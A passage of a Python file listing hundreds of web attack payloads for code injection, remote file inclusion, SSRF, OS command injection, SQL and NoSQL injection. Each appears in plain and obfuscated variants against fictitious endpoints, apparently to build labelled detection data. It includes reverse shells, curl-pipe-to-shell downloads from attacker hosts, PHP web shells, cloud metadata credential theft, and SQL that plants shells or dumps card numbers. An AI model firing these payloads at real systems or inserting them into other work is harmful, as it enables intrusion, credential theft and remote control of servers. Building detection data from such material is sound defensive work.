        ep=("shop.northwind-outfitters.com", "/admin/theme/save.php", ["x"]),
    ),
    M("GIF89a<?=`$_GET[0]`?>", mode="file", filename="photo.jpg.pHp5", fct="image/gif", field="photo"),
    M(
        "AddType application/x-httpd-php .jpg\nphp_value auto_prepend_file /var/www/html/uploads/shell.jpg",
        mode="file",
        filename=".htaccess",
        fct="text/plain",
        field="upload",
    ),
    F("array_map('sys'.'tem',array('{C}'));", param="expr"),
    Q("system/**/('{C}');", param="calc", ep=EP_PHP),
    F("system\n(\t'{C}'\n);", param="code"),
    Q("$_GET['f']($_GET['a']);", ep=EP_PHP, q=[("code", MARK), ("f", "system"), ("a", "{C}")]),
    J(LARAVEL_CHAIN2, param="payload", ep=("app.ledgerline.io", "/api/queue/replay", ["payload"])),
    Q("assert(strrev(\";)'di'(metsys\"));", param="check"),
    Q("index/\\think\\Request/input", ep=EP_TP, q=[("s", MARK), ("filter[]", "system"), ("data", "{C}")], force="\\/"),
]


# =================================================================== code injection (Node, Python, Ruby, Perl, Lua)
EP_FORMULA = ("app.taskgrid.io", "/api/v1/formulas/evaluate", ["expression", "formula", "code"])
EP_GRADER = ("lab.quadrant-academy.edu", "/grader/run", ["code", "snippet", "solution"])
NODE_B64 = b64("require('child_process').execSync('id').toString()")
PY_B64 = b64("import os;os.system('id')")
NODE_SER = (
    "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl http://k3x9q1.interact.sh/ns',"
    'function(e,o){console.log(o)})}()"}'
)
PY_REV = (
    'exec("import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);'
    "s.connect(('{H}',4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
    "subprocess.call(['/bin/sh','-i'])\")"
)
EJS_POLLUTE = "_tmp1;global.process.mainModule.require('child_process').execSync('{C}');var __tmp2"

CODE_NORMAL = [
    Q("require('child_process').execSync('{C}').toString()", ep=EP_FORMULA),
    J(
        "process.mainModule.require('child_process').exec('{SC}')",
        param="transform",
        ep=("console.metricvault.dev", "/api/query/transform", ["transform"]),
    ),
    Q("global.process.mainModule.constructor._load('child_process').execSync('{C}')", param="fn"),
    F("');require('child_process').exec('{SC}');//", param="callback"),
    J(
        "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('{C}').toString()",
        ep=EP_GRADER,
        param="code",
    ),
    J(
        {
            "__proto__": {
                "shell": "/proc/self/exe",
                "argv0": "console.log(require('child_process').execSync('{C}').toString())//",
                "NODE_OPTIONS": "--require /proc/self/cmdline",
            }
        },
        param="settings",
        ep=("api.cartwheel-market.com", "/v2/account/preferences", ["settings"]),
    ),
    FK("__proto__[outputFunctionName]", value=EJS_POLLUTE, ep=("www.lumenhome.store", "/profile/update", ["x"])),
    F(
        EJS_POLLUTE,
        form=[("__proto__[outputFunctionName]", MARK)],
        ep=("shop.northwind-outfitters.com", "/account/settings", ["x"]),
    ),
    JK(
        "__proto__",
        value={"isAdmin": True, "execArgv": ["--eval=require('child_process').execSync('{C}')"]},
        ep=("api.chirpnest.social", "/v2/me", ["x"]),
    ),
    Q("__import__('os').system('{C}')", ep=EP_FORMULA, param="formula"),
    J(
        "__import__('subprocess').check_output('{C}',shell=True)",
        param="calc",
        ep=("reports.ledgerline.io", "/api/columns/computed", ["calc"]),
    ),
    Q("eval(compile('import os;os.system(\"{C}\")','x','exec'))", param="expr"),
    J(
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').popen('{C}').read()",
        ep=EP_GRADER,
        param="snippet",
    ),
    M(
        '!!python/object/apply:os.system ["{C}"]',
        mode="file",
        filename="pipeline.yaml",
        fct="application/x-yaml",
        field="config",
        ep=("ci.ledgerline.io", "/api/pipelines/import", ["x"]),
    ),
    J("open('/etc/passwd').read()", ep=EP_FORMULA, param="expression"),
    Q(PY_REV, param="code", ep=EP_GRADER),
    Q("`{C}`", param="script", ep=("hub.thermacore-hub.net", "/api/automations/test", ["script"])),
    J("system('{C}')", param="rule", ep=("api.cartwheel-market.com", "/v2/pricing/rules", ["rule"])),
    F("%x({C})", param="condition"),
    Q("Kernel.exec('{C}')", param="expr"),
    J("IO.popen('{C}').read", param="discountExpr", ep=("api.cartwheel-market.com", "/v2/pricing/rules", ["x"])),
    X("eval(\"system('{C}')\")", param="script"),
    F(";print `{C}`;", param="template_vars", ep=("reports.ledgerline.io", "/cgi-bin/report.pl", ["x"])),
    Q('open(F,"|{C}");', param="tpl", ep=("legacy.meridian-logistics.com", "/cgi-bin/awstats.pl", ["x"])),
    J("Function('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')", param="fn"),
    J("os.execute('{C}')", param="script", ep=("hub.thermacore-hub.net", "/api/automations/lua", ["script"])),
    H("require('child_process').exec('{SC}')", "X-Debug-Eval", ep=EP_FORMULA),
    C("__import__('os').popen('{C}').read()", cname="calc_expr"),
    Q("res.end(require('fs').readdirSync('.').toString())", param="code", ep=EP_GRADER),
    M(
        "import os\nos.system('{SC}')\n",
        mode="file",
        filename="solution.py",
        fct="text/x-python",
        field="submission",
        ep=EP_GRADER,
    ),
    FK(
        "constructor[prototype][outputFunctionName]",
        value=EJS_POLLUTE,
        ep=("app.taskgrid.io", "/settings/profile", ["x"]),
    ),
    J("Open3.capture2('{C}')", param="hook"),
]

CODE_HARD = [
    Q("require('child_'+'process')['ex'+'ecSync']('{C}')", ep=EP_FORMULA),
    J("require('\\x63hild_process').execSync('\\x69\\x64').toString()", param="transform"),
    Q("\\u0072equire('child_process').execSync('{C}')", param="fn"),
    J("eval(Buffer.from('" + NODE_B64 + "','base64').toString())", ep=EP_GRADER, param="code"),
    Q(
        "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in "require('child_process').execSync('id')") + "))",
        param="expression",
    ),
    Q("getattr(__import__('o'+'s'),'sys'+'tem')('{C}')", ep=EP_FORMULA, param="formula"),
    J("exec(__import__('base64').b64decode('" + PY_B64 + "'))", param="calc"),
    Q("eval(bytes.fromhex('" + "__import__('os').system('id')".encode().hex() + "').decode())", param="expr"),
    J(
        "__\uff49\uff4d\uff50\uff4f\uff52\uff54__('os').\uff53\uff59\uff53\uff54\uff45\uff4d('{C}')",
        param="expression",
        ep=EP_FORMULA,
    ),
    C(b64(py_pickle0("curl http://c7rk2m.oast.fun/p0")), cname="session"),
    M(
        b64(py_pickle2("id")),
        mode="field",
        param="state",
        ep=("console.metricvault.dev", "/api/jobs/resume", ["state"]),
    ),
    C(b64(NODE_SER), cname="profile"),
    Q("eval(['" + "system('id');".encode().hex() + "'].pack('H*'))", param="expr"),
    F("send('sy'+'stem','{C}')", param="rule"),
    J({"__proto__": {"outputFunctionName": EJS_POLLUTE}}, uesc="_", param="preferences"),
    Q(
        'eval(pack("H*","' + 'system("id");'.encode().hex() + '"))',
        param="tpl",
        ep=("legacy.meridian-logistics.com", "/cgi-bin/report.pl", ["x"]),
    ),
    J(
        "Quarterly formula documentation for the pricing sheet. The finance team asked that every computed column "
        "carry a short note explaining its origin so that auditors can trace the numbers back to source systems. "
        "This column blends the list price with the negotiated discount and the regional tax multiplier, rounding "
        "half-even as required by policy. Reviewed by A. Moreau. ');require('child_process').exec('{SC}');//",
        param="note",
        ep=EP_FORMULA,
    ),
    J("__import__('os').popen('{C}').read()", deep=12, param="expr"),
    Q(
        "globalThis[String.fromCharCode(101,118,97,108)]('process.mainModule.require(`child_process`).execSync(`{C}`)')",
        param="fn",
        force="ALL",
    ),
    X("Kernel.send(:system, '{C}')", charref="(:)", param="script"),
    FK(
        "__proto__[escapeFunction]",
        value="1;return global.process.mainModule.constructor._load('child_process').execSync('{C}');",
        force="_[]",
        form=[
            ("__proto__[client]", "1"),
            (MARK, "1;return global.process.mainModule.constructor._load('child_process').execSync('{C}');"),
        ],
    ),
    Q(
        'this["constructor"]["constructor"]("return pro"+"cess")()["mainModule"]["require"]("child_"+"process")["execSync"]("{C}")+""',
        param="code",
        ep=EP_GRADER,
    ),
]

# =================================================================== rfi
EP_INC = ("www.lumenhome.store", "/index.php", ["page", "include", "lang", "module"])
PHP_SHELL = "<?php system($_GET['c']); ?>"
RFI_NORMAL = [
    Q("http://{H}/shell.txt?", ep=EP_INC),
    Q("https://{H}/c99.txt?", param="include"),
    Q("ftp://{H}/pub/inc.txt", param="module"),
    Q("\\\\{H}\\share\\shell.php", param="page"),
    Q("data://text/plain;base64," + b64(PHP_SHELL), param="page", ep=EP_INC),
    Q("data:text/plain,<?php phpinfo();?>", param="lang"),
    Q("php://input", param="page", method="POST", body="<?=system('id')?>", ep=EP_INC),
    Q("expect://{C}", param="file"),
    Q("zip://uploads/avatar.jpg#shell.php", param="module", ep=EP_INC),
    J("http://{H}/templates/header.php?", param="theme"),
    C("http://{H}/lang/en.txt?", cname="lang"),
    F("https://{H}/t.txt?", param="tpl"),
    M("http://{H}/skins/dark.txt?", mode="field", param="skin_url"),
    X("http://{H}/inc/footer.txt?", param="include"),
    PA("http://{H}/x.txt", prefix="/view/", safe=":/"),
    Q("https://raw.githubusercontent.com/m4lw4re/tools/main/wso.txt?", param="page"),
    Q("https://pastebin.com/raw/5kQ2xv9L?", param="include", ep=EP_INC),
    Q("http://{H}/s.txt#", param="content", ep=("portal.tidewater-cu.org", "/main.php", ["content"])),
    Q("php://filter/resource=http://{H}/shell.txt", param="view"),
    Q("data://text/plain,<?php system($_GET[c]);?>", q=[("page", MARK), ("c", "{C}")], ep=EP_INC),
    Q("ssh2.exec://deploy:deploy@{H}:22/{C}", param="file"),
    Q("http://{H}:8080/.x/inc.txt?", param="section", ep=("learn.quadrant-academy.edu", "/mod/page/view.php", ["x"])),
    Q("http://{H}/r57.txt?&", param="path"),
    H("http://{H}/lang/shell.txt?", "X-Language", ep=EP_INC),
    F("ftp://anonymous:a@{H}/inc.php", param="plugin"),
    Q("https://{H}/wp-content/uploads/2024/05/readme.txt?", param="tpl"),
    J("data://text/plain;base64," + b64("<?php echo shell_exec($_REQUEST['q']); ?>"), param="layout"),
    Q("https://{H}/inc/config.inc.txt?", param="page", ep=("portal.tidewater-cu.org", "/main.php", ["x"])),
    QK("http://{H}/shell.txt?", noeq=True, ep=("legacy.meridian-logistics.com", "/index.php", ["x"])),
    Q("phar://uploads/doc.pdf/shell.php", param="inc"),
    M(
        "https://{H}/plugin.txt?",
        mode="field",
        param="plugin_url",
        ep=("cms.chirpnest.social", "/admin/plugins/install.php", ["x"]),
    ),
]
RFI_HARD = [
    Q("hTtP://{H}/s.txt?", param="page", ep=EP_INC),
    Q("data:;base64," + b64("<?=`$_GET[1]`?>"), param="include"),
    Q("DaTa://text/plain,<?php passthru($_GET['c']);?>", param="lang"),
    Q(
        "php://filter/read=string.rot13/resource=data://text/plain," + rot13("<?php system('id');?>"),
        param="page",
        ep=EP_INC,
    ),
    Q("php://filter/convert.base64-decode/resource=data://text/plain," + b64("<?php system('id');?>"), param="module"),
    Q("http%3A%2F%2F{H}%2Fs.txt%3F", param="page", ep=EP_INC),
    Q("http://{H}/s.txt\x00", param="include"),
    Q("\\\\{H}@SSL\\DavWWWRoot\\s.php", param="page"),
    Q("http://" + str(ip2int("203.0.113.77")) + "/sh.txt?", param="page", ep=EP_INC),
    Q("compress.zlib://http://{H}/s.txt", param="tpl"),
    Q("ExPeCt://{C}", param="file"),
    J("http://{H}/inc/shell.txt?", slash=True, param="theme"),
    X("http://{H}/x.txt?", charref="htp:/", param="include"),
    Q("http://admin:s3cr3t@{H}/s.txt?", param="page"),
    Q("data:text/plain;charset=utf-8;base64," + b64("<?php eval($_POST[1]);?>"), param="view"),
    Q("zip://../uploads/tmp/8f2a.zip%23s.php", param="module", ep=EP_INC),
    C("data://text/plain;base64," + b64("<?php system('id');?>"), cname="template"),
    Q("http://0xcb.0.0x71.0x4d/sh.txt?", param="lang"),
    J("https://{H}/t.txt?", uesc=":/", param="layout"),
    Q("php://filter/string.toupper|string.tolower/resource=http://{H}/s.txt", param="inc"),
    M("data://text/plain;base64," + b64("<?php passthru($_POST['x']); ?>"), mode="field", param="skin"),
]

# =================================================================== ssrf
EP_IMPORT = ("api.cartwheel-market.com", "/v1/products/import", ["imageUrl", "feedUrl", "url"])
EP_HOOK = ("app.taskgrid.io", "/api/integrations/webhooks", ["url", "callbackUrl", "target"])
SSRF_NORMAL = [
    Q("http://169.254.169.254/latest/meta-data/iam/security-credentials/", ep=EP_IMPORT),
    Q("http://169.254.169.254/latest/user-data", param="url"),
    J("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", ep=EP_HOOK),
    J("http://169.254.169.254/metadata/instance?api-version=2021-02-01", param="endpoint"),
    Q("http://100.100.100.200/latest/meta-data/ram/security-credentials/", param="u"),
    F("http://169.254.170.2/v2/credentials/", param="avatarUrl"),
    Q("http://localhost:8080/manager/html", param="url"),
    J(
        "http://127.0.0.1:2375/containers/json",
        param="endpoint",
        ep=("console.metricvault.dev", "/api/datasources/test", ["x"]),
    ),
    Q(
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A"
        "%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%0A%0A%0D%0A",
        param="url",
    ),
    Q("dict://127.0.0.1:11211/stats", param="feedUrl"),
    Q("file:///etc/passwd", param="src"),
    J("http://10.0.0.5:9200/_cat/indices?v", param="host"),
    J("https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", param="uri"),
    Q("http://127.0.0.1:10255/pods", param="mirror", ep=("hub.thermacore-hub.net", "/api/firmware/check", ["x"])),
    Q("http://127.0.0.1:8500/v1/kv/?recurse", param="url"),
    Q("http://[::1]:8080/admin/", param="link"),
    Q("http://0.0.0.0:22/", param="url"),
    M("http://localhost/server-status", mode="field", param="remote_url"),
    X("http://192.168.1.1/cgi-bin/luci/;stok=/locale", param="imageUrl"),
    H("169.254.169.254", "Host", epath="/latest/meta-data/"),
    PA("http://169.254.169.254/latest/meta-data/", prefix="/proxy/", safe=":/"),
    PA("127.0.0.1:8080/actuator/env", prefix="/fetch/", safe=":/"),
    C("http://127.0.0.1:9000/minio/admin/v3/info", cname="avatar_src"),
    F("http://[fd00:ec2::254]/latest/meta-data/", param="callback_url"),
    J("http://localhost:4566/_localstack/health", param="webhookUrl", ep=EP_HOOK),
    Q("http://127.0.0.1:5984/_all_dbs", param="img"),
    J(
        {
            "url": "http://169.254.169.254/latest/api/token",
            "method": "PUT",
            "headers": {"X-aws-ec2-metadata-token-ttl-seconds": "21600"},
        },
        param="request",
        ep=EP_HOOK,
    ),
    H("http://127.0.0.1:8081/internal/flags", "X-Callback-Url"),
    Q("ldap://127.0.0.1:389/dc=corp,dc=local", param="uri"),
    QK(
        "http://169.254.169.254/latest/meta-data/hostname",
        noeq=True,
        ep=("shop.northwind-outfitters.com", "/proxy/image", ["x"]),
    ),
    Q("http://internal-api.svc.cluster.local/admin/users", param="target"),
]
SSRF_HARD = [
    Q("http://" + str(ip2int("169.254.169.254")) + "/latest/meta-data/", ep=EP_IMPORT),
    Q("http://0xa9fea9fe/latest/meta-data/iam/", param="url"),
    J("http://0251.0376.0251.0376/latest/user-data", param="imageUrl"),
    Q("http://0xa9.254.0251.0xfe/latest/meta-data/", param="u"),
    Q("http://169.%d/latest/meta-data/" % (254 * 65536 + 169 * 256 + 254), param="src"),
    Q("http://127.1:8080/admin", param="url"),
    F("http://0177.0.0.1/server-status", param="avatarUrl"),
    Q("http://0/", param="link"),
    J("http://[::ffff:a9fe:a9fe]/latest/meta-data/", param="endpoint"),
    Q("http://[0:0:0:0:0:ffff:127.0.0.1]:6379/", param="url"),
    Q("http://169.254.169.254.nip.io/latest/meta-data/", param="feedUrl"),
    J("http://7f000001.c0a80001.rbndr.us:8080/admin", param="callbackUrl", ep=EP_HOOK),
    Q("http://instance-data/latest/meta-data/", param="img"),
    Q("http://{H}@169.254.169.254/latest/meta-data/", param="url"),
    Q("http://169.254.169.254#@cdn.cartwheel-market.com/", param="imageUrl", ep=EP_IMPORT),
    Q("http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460:8080/", param="link"),
    J("https://{H}/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", param="url"),
    Q("http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/", param="src"),
    J("jar:http://127.0.0.1:8080/internal.jar!/", param="uri"),
    Q("netdoc:///etc/passwd", param="feedUrl"),
    J("http://localtest.me:8500/v1/agent/self", uesc=":/.", param="host"),
    Q("http://0x7f.1:2375/info", param="url", force="ALL"),
    X("http://169.254.169.254/latest/meta-data/iam/info", charref="1.:", param="imageUrl"),
    H("[::ffff:169.254.169.254]", "X-Forwarded-Host"),
]


# =================================================================== rce (OS command injection)
EP_DIAG = ("hub.thermacore-hub.net", "/cgi-bin/diagnostic.cgi", ["ping_addr", "host", "target"])
EP_ROUTER = ("192.168.0.1", "/goform/setSysAdm", ["ntp_server", "hostname", "ddns_domain"])
EP_CONVERT = ("app.taskgrid.io", "/api/exports/convert", ["filename", "format", "pages"])
MVG = (
    "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/image.jpg\"|curl \"http://{H}/it)'\n"
    "pop graphic-context\n"
)
RCE_NORMAL = [
    Q("8.8.8.8; cat /etc/passwd", ep=EP_DIAG, param="ping_addr"),
    Q("127.0.0.1 | id", ep=EP_DIAG),
    F("example.com && curl http://{H}/x|sh", param="host"),
    Q("$(wget -qO- http://{H}/s|sh)", param="target"),
    Q("`nslookup {H}`", param="host"),
    F("x || ping -c 5 {H}", param="ip"),
    F(";nc -e /bin/sh {H} 4444", ep=EP_DIAG),
    Q("& whoami", param="filename", ep=EP_CONVERT),
    Q("|| type C:\\Windows\\win.ini", param="target"),
    Q(
        "report.pdf;rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {H} 4444 >/tmp/f",
        ep=EP_CONVERT,
        param="filename",
    ),
    J("db01$(curl -d @/etc/passwd {H})", param="host"),
    Q(";bash -c 'bash -i >& /dev/tcp/{H}/443 0>&1'", param="ip"),
    H("() { :; }; /bin/bash -c 'curl http://{H}/s|sh'", "User-Agent", epath="/cgi-bin/status"),
    H("() { :;}; echo; /usr/bin/id", "Referer", epath="/cgi-bin/test.cgi"),
    C("() { :; }; /bin/sleep 10", cname="lang", epath="/cgi-bin/index.cgi"),
    M(MVG, mode="file", filename="profile.jpg", fct="image/jpeg", field="avatar"),
    Q("--upload-pack=touch /tmp/pwned", ep=("ci.ledgerline.io", "/api/repos/mirror", ["repo"])),
    Q("-oProxyCommand=curl http://{H}/p|sh", ep=("console.metricvault.dev", "/api/tools/ssh-check", ["host"])),
    M("--checkpoint-action=exec=sh s.sh", mode="filename", content="backup", fct="application/x-tar"),
    PA(";wget http://{H}/mips -O /tmp/m;chmod +x /tmp/m;/tmp/m", ep=EP_ROUTER, prefix="/cgi-bin/", safe="/;:+"),
    Q("pool.ntp.org;telnetd -l /bin/sh -p 2323", ep=EP_ROUTER, param="ntp_server"),
    F(
        "& powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://{H}/a.ps1')\"",
        ep=EP_CONVERT,
        param="filename",
    ),
    Q("| certutil -urlcache -split -f http://{H}/a.exe %TEMP%\\a.exe", param="target"),
    X("1.1.1.1`{C}`", param="ip"),
    J("eth0; {SC}", param="iface", ep=EP_DIAG),
    F("-name x -exec {C} ;", param="pattern", ep=("api.smartlockly.com", "/v1/devices/logs", ["x"])),
    Q("$(id>/tmp/o)", ep=EP_CONVERT, param="pages"),
    J("1.2.3.4 && wget {H}/b -O- | sh", param="target"),
    H(";{C};", "X-Device-Name", ep=EP_DIAG),
    QK(";{C}", noeq=True, ep=("hub.thermacore-hub.net", "/cgi-bin/status.sh", ["x"])),
    M('test.jpg"; {C}; "', mode="field", param="filename", ep=EP_CONVERT),
    F("localhost$(sleep 5)", ep=EP_ROUTER, param="hostname"),
]
RCE_HARD = [
    Q(";${IFS}cat${IFS}/etc/passwd", ep=EP_DIAG),
    Q(";cat$IFS$9/etc/passwd", param="host"),
    F(";{cat,/etc/passwd}", param="target"),
    Q(";c'a't /e\"t\"c/pa''sswd", ep=EP_DIAG),
    Q(";c\\at /et\\c/pas\\swd", param="ip"),
    Q(";$(printf '\\x69\\x64')", param="host"),
    F(";echo${IFS}" + b64("curl -s http://x.ropchain.cc/b|sh") + "|base64${IFS}-d|sh", ep=EP_DIAG),
    Q(";/???/??t /???/p??s??", param="target"),
    Q("127.0.0.1\n{C}", ep=EP_DIAG),
    Q(";$(rev<<<'di')", param="host"),
    Q(";a=i;b=d;$a$b", param="ip"),
    Q(";/bin/c${x}at /etc/passwd", param="ntp_server", ep=EP_ROUTER),
    Q(";w'h'o''am\\i", param="filename", ep=EP_CONVERT),
    F("&p^o^w^e^r^s^h^e^l^l -c whoami", ep=EP_CONVERT, param="filename"),
    Q('| cmd /c "set x=who&&set y=ami&&call %x%%y%"', param="target"),
    Q(";$(tr '[A-Z]' '[a-z]'<<<'ID')", param="host"),
    Q(";${PATH:0:1}bin${PATH:0:1}cat ${PATH:0:1}etc${PATH:0:1}passwd", ep=EP_DIAG),
    H("() { _; } >_[$($())] { {C}; }", "User-Agent", epath="/cgi-bin/status"),
    Q(
        "$(echo$IFS$()" + b64("curl -s http://x.ropchain.cc/s|bash") + "|base64$IFS-d|bash)",
        param="pages",
        ep=EP_CONVERT,
    ),
    F("192.168.0.10\r\n{C}", ep=EP_ROUTER, param="ddns_domain"),
    J(";{C}", uesc=";", param="host"),
    C("en;`{C}`", cname="locale", force="ALL"),
    Q(";$'\\x63\\x61\\x74' /etc/passwd", param="target"),
    X(";{SC}", charref=";|", param="hostname"),
]

# =================================================================== sqli
EP_LOGIN = ("online.harborfirst-bank.com", "/login", ["username"])
EP_PROD = ("shop.northwind-outfitters.com", "/catalog/products", ["id", "category", "sort", "order"])
SQL_NORMAL = [
    Q("' OR '1'='1' -- ", ep=EP_PROD, param="category"),
    Q("1 OR 1=1", ep=EP_PROD, param="id"),
    F("admin'--", ep=EP_LOGIN, form=[("username", MARK), ("password", "x")]),
    Q("1' UNION SELECT username,password FROM users--", param="id", ep=("www.lumenhome.store", "/product.php", ["x"])),
    Q(
        "1 UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables--",
        param="pid",
        ep=("www.lumenhome.store", "/product.php", ["x"]),
    ),
    Q("1;DROP TABLE users--", param="empId", ep=("hr.peoplestack.app", "/reports/employees", ["x"])),
    Q("1' AND SLEEP(5)-- -", ep=EP_PROD, param="id"),
    J("1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)", param="accountId"),
    F("1'; WAITFOR DELAY '0:0:5'--", param="dept"),
    Q("1 AND 1=CAST((SELECT version()) AS int)", param="lockId"),
    Q("' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -", param="q"),
    Q("1 AND updatexml(1,concat(0x7e,database()),1)", param="cat"),
    Q("1' AND (SELECT 1 FROM pg_sleep(5)) IS NULL--", param="status"),
    Q("1||pg_sleep(5)", param="limit"),
    Q(
        "(CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN name ELSE price END)",
        ep=EP_PROD,
        param="sort",
    ),
    Q("1 ORDER BY 10--", ep=EP_PROD, param="order"),
    Q("1 AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64", param="empId"),
    F("'; EXEC xp_cmdshell 'whoami'--", param="memo"),
    Q("-1 UNION SELECT 1,load_file('/etc/passwd'),3", param="pid"),
    Q("' UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/s.php'--", param="cat"),
    Q("' AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual))--", param="assignee"),
    Q("1 AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)=1", param="from"),
    Q("' UNION SELECT sql,2 FROM sqlite_master--", param="user"),
    J("5 OR 1=1", param="lockId"),
    JK("name) OR 1=1--", doc={"filters": {MARK: "x"}, "page": 1, "pageSize": 50}),
    C("abc' AND 1=1--", cname="tracking_id"),
    H("1.2.3.4' AND SLEEP(5) AND '1'='1", "X-Forwarded-For"),
    H("Mozilla/5.0' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -", "User-Agent"),
    X("1' OR '1'='1", param="accountNumber"),
    M("1 UNION SELECT @@version,2-- -", mode="field", param="ref"),
    PA("12 UNION SELECT null,username,password FROM users--", prefix="/api/v1/products/", safe=""),
    QK("order[id) AND SLEEP(5)-- ]", value="asc", ep=EP_PROD),
    J("1; COPY (SELECT '') TO PROGRAM 'curl http://{H}/pg'--", param="id"),
]
SQL_LONG = (
    "Please reconcile this memo against the March statement; the vendor says the second payment was a "
    "duplicate and they will refund it within ten business days. I have attached the remittance advice "
    "and the screenshot from the banking portal. If anything is unclear, call the treasury desk before "
    "Friday so we can close the books on time. Thanks, accounts payable team. "
)
SQL_HARD = [
    Q(
        "1'/**/UnIoN/**/SeLeCt/**/1,2,group_concat(user,0x3a,password)/**/FrOm/**/mysql.user-- -",
        ep=EP_PROD,
        param="id",
    ),
    Q("1'\nunion\nselect 1,@@version,3-- -", param="pid"),
    Q("1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3", param="cat"),
    Q("-1 UNION SELECT 1,password,3 FROM users WHERE username=CHAR(97,100,109,105,110)", param="id"),
    F("' or username=0x61646d696e#", ep=EP_LOGIN, form=[("username", MARK), ("password", "whatever")]),
    Q("' or 1 like 1-- -", param="q"),
    Q("1'and(select(sleep(5)))and'1", param="id"),
    Q("\u00bf' OR 1=1-- ", param="category", latin1=True, ep=EP_PROD),
    J("x' OR 'a'='a", uesc="'", param="memo"),
    Q('1\' OR \'{"b":2}\'::jsonb <@ \'{"a":1,"b":2}\'::jsonb-- ', param="status"),
    J("' OR JSON_EXTRACT('{\"id\":14}','$.id')=14-- ", param="q"),
    Q("1e0UNION SELECT 1,user(),3", param="pid"),
    Q("-1 UNION SELECT \\N,user(),\\N", param="cat"),
    Q("1 UNION SELECT * FROM (SELECT 1)a JOIN (SELECT user())b JOIN (SELECT 3)c", param="id"),
    F("'-(SELECT 1 FROM(SELECT SLEEP(5))x)-'", param="dept"),
    Q("1' || '1' like '1", param="assignee"),
    F("admin\u02bc OR 1=1--", ep=EP_LOGIN, form=[("username", MARK), ("password", "pw")]),
    X("0' UNION SELECT password FROM accounts WHERE '1'='1", charref="'", param="accountNumber"),
    C(b64("{\"uid\":\"1' OR '1'='1\"}"), cname="auth"),
    J("1 AND SLEEP(5)", deep=10),
    J(SQL_LONG + "' UNION SELECT card_number,cvv FROM payments-- ", param="memo"),
    Q("1 Or/**_**/1=1", param="lockId"),
    Q("1;SELECT/**/pg_sleep(5)", force="ALL", param="limit"),
    H("' AND 1=CONVERT(int,(SELECT TOP 1 password FROM users))-- ", "X-Tenant-Id"),
]

# =================================================================== nosqli
EP_NLOGIN = ("api.cartwheel-market.com", "/v1/auth/login", ["username", "password", "email"])
NOSQL_NORMAL = [
    FK("password[$ne]", ep=EP_NLOGIN, form=[("username", "admin"), (MARK, "")]),
    FK("username[$regex]", ep=EP_NLOGIN, form=[(MARK, "^adm"), ("password[$ne]", "1")]),
    QK("user[$ne]", value="x"),
    J({"$ne": None}, ep=EP_NLOGIN, doc={"username": "admin", "password": MARK}),
    J({"$gt": ""}, ep=EP_NLOGIN, doc={"email": "admin@cartwheel-market.com", "password": MARK}),
    J({"$regex": ".*"}, param="username", ep=EP_NLOGIN),
    J({"$where": "sleep(5000)"}, param="filter"),
    J({"$where": "this.password.match(/^a/)"}, param="where"),
    Q("'; return true; var x='", param="where"),
    Q("' || '1'=='1", param="q"),
    J({"$in": ["admin", "root", "administrator"]}, param="username", ep=EP_NLOGIN),
    J({"$nin": [""]}, param="token"),
    J({"$exists": True}, param="token", ep=("api.helpdeskly.com", "/v1/tickets/lookup", ["x"])),
    J({"$expr": {"$gt": [1, 0]}}, param="filter"),
    J([{"$lookup": {"from": "users", "localField": "authorId", "foreignField": "_id", "as": "u"}}], param="pipeline"),
    J(
        {"$expr": {"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}},
        param="selector",
    ),
    J({"selector": {"_id": {"$gt": None}}, "limit": 1000}, param="query"),
    JK("$where", value="function(){return true}"),
    C('j:{"$ne":null}', cname="remember"),
    H('{"email":{"$regex":"^a"}}', "X-Query"),
    QK("filter[$where]", value="sleep(5000)"),
    M("password[$gt]", mode="name", value="", ep=EP_NLOGIN),
    F("' || 1==1//", param="username"),
    Q("admin' && this.password.length > 0 && 'a'=='a", param="email"),
    J(
        "' OR 1=1 WITH 1 as a CALL dbms.procedures() yield name LOAD CSV FROM 'https://{H}/'+name as l RETURN 1//",
        param="author",
    ),
    Q("' OR 1=1 WITH true AS ignored MATCH (u:User) RETURN u.password//", param="tag"),
    J("' || true RETURN u //", param="name"),
    J({"$or": [{"username": "admin"}, {"role": {"$ne": "guest"}}]}, param="query"),
    J({"username": {"$regex": "^admin"}, "password": {"$ne": ""}}, param="credentials"),
    QK("username[$exists]", value="true", ep=EP_NLOGIN),
]
NOSQL_HARD = [
    J({"$ne": "x"}, uesc="$", ep=EP_NLOGIN, doc={"username": "admin", "password": MARK}),
    FK("login[password][$ne]", force="$[]", value="", ep=EP_NLOGIN),
    J({"$where": "(function(){var d=new Date();do{var c=new Date();}while(c-d<5000);return true;})()"}, param="filter"),
    J({"$regex": "^(?i)ADMIN"}, param="username", uesc="^(?)"),
    J({"$or": [{}, {"a": "a"}]}, param="filter"),
